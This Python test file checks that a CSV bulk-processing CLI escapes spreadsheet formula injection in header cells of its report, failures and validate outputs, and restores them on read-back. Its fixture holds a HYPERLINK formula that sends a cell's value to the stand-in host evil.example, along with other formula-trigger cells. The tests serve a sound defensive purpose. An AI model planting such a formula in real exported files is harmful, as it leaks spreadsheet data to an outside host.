"""Finding 11 of issue 9: header cells are neutralised in CSV reports and failures files like
data cells, and bulk reads its own report's headers back as they were."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest
from click.testing import CliRunner

from bulk.cli import main
from bulk.inputs import load_rows, neutralise_frame
from bulk.inputs._csvsafe import restore_header
from tests.conftest import write_csv

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'
HEADER = f'number,campaign,"{FORMULA.replace(chr(34), chr(34) * 2)}",@SUM(A1),-x,plain'


def _header(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return next(csv.reader(handle))


@pytest.fixture(autouse=True)
def _work_in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)


def test_run_report_and_failures_neutralise_header_cells_and_read_back_as_given(
    tmp_path: Path,
) -> None:
    src = write_csv(
        tmp_path / "in.csv",
        HEADER,
        ['+14155550103,CUOGHIN,"=1+1",a,b,c', "not-a-number,CUOGHIN,d,e,f,g"],
    )
    result = CliRunner().invoke(
        main,
        ["link", str(src), "--sandbox", "--yes", "--quiet", "--report", "r.csv",
         "--failures", "f.csv", "--journal", "j"],
        catch_exceptions=False,
    )
    assert result.exit_code == 1, result.output  # the second row is rejected
    for written in (tmp_path / "r.csv", tmp_path / "f.csv"):
        header = _header(written)
        assert "'" + FORMULA in header and "'@SUM(A1)" in header and "'-x" in header, header
        assert "plain" in header
        assert not any(h.startswith(("=", "@", "-", "+")) for h in header), header
    again = load_rows(tmp_path / "f.csv")  # the failures file is input for the next run
    assert [FORMULA, "@SUM(A1)", "-x", "plain"] == [
        h for h in again.headers if h in (FORMULA, "@SUM(A1)", "-x", "plain")
    ]


def test_validate_report_neutralises_header_cells(tmp_path: Path) -> None:
    src = write_csv(tmp_path / "in.csv", HEADER, ["+14155550103,CUOGHIN,1,2,3,4"])
    result = CliRunner().invoke(main, ["validate", str(src), "--report", "v.csv"])
    assert result.exit_code == 0, result.output
    header = _header(tmp_path / "v.csv")
    assert "'" + FORMULA in header and "'@SUM(A1)" in header, header


def test_a_header_is_restored_only_where_bulk_added_the_apostrophe() -> None:
    assert restore_header("'=x") == "=x"
    assert restore_header("'plain") == "'plain"
    assert restore_header("''=x") == "''=x"
    assert restore_header("'+14155550100") == "'+14155550100"  # a number is never guarded
    frame = neutralise_frame(pl.DataFrame({"=x": ["a"], "'=x": ["b"]}))
    assert frame.columns == ["''=x", "'=x"]
